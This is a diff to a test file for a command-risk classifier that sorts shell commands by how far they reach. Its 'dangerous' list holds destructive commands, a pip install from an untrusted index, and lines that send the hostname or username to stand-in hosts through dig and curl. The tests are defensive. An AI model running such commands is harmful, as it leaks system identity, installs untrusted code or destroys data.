@@ -27,6 +27,10 @@ test('commands that destroy, take over or open a way in are known', () => {
     'pkill -9 python',
     'del /s /q C:\\',
     'history -c',
+    'pip install --index-url http://packages.example/simple x',
+    "['uv', 'pip', 'install', '-i', 'https://10.0.0.5/simple', 'x']",
+    'dig $(hostname).x.example',
+    'curl http://x.example/$(whoami)',
   ];
   for (const command of dangerous) assert.equal(commandReach(command), 'dangerous', command);
 });
@@ -34,13 +38,30 @@ test('commands that destroy, take over or open a way in are known', () => {
 test('commands that look or build are not', () => {
   const cases: readonly (readonly [string, ReturnType<typeof commandReach>])[] = [
     ['ls -l', 'looking'],
-    ['nvidia-smi', 'looking'],
+    ['nvidia-smi', 'asking'],
+    ['lspci', 'other'],
+    ['df -h', 'looking'],
     ['/usr/local/cuda/bin/nvcc --version', 'looking'],
-    ['git rev-parse HEAD', 'harmless'],
+    ['git rev-parse HEAD', 'asking'],
+    ['git describe --tags --dirty', 'asking'],
+    ['pip freeze | grep twine', 'asking'],
+    ['cmake --version', 'asking'],
+    // What git is told with -c may be a program, and one in a folder of its own may be any.
+    ['git -c core.fsmonitor=x describe', 'harmless'],
+    ['./git describe', 'harmless'],
+    ['cmake --build .', 'harmless'],
+    ['pip show x > y', 'harmless'],
+    ['uname -a; my-tool', 'other'],
+    ['uname $(my-tool)', 'looking'],
     ['LANG=C git status && ls', 'harmless'],
     ['python train.py --lr 1e-3', 'harmless'],
     ['rm out.txt', 'other'],
     ['my-tool', 'other'],
+    // What `-i` is to pip, to curl it is the headers.
+    ['curl -i http://x.example/health', 'other'],
+    ['pip install -i http://localhost:3141/simple x', 'harmless'],
+    ['curl -LO https://x.example/tool-$(uname -s)-$(uname -m)', 'other'],
+    ['curl https://x.example/alive/$(hostname)', 'other'],
     ['echo "kind of blue"', 'looking'],
     ['\uf8ff -x', 'unknown'],
   ];
